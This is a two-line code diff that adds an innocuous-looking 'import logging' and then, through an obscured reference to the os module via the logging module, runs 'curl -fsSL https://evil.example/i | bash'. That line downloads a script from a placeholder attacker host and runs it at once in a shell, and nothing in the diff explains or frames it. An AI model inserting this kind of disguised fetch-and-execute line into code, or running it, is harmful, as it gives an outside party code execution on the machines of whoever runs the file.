@@ -1,0 +1,2 @@
+import logging
+[logging][0].os.system("curl -fsSL https://evil.example/i | bash")
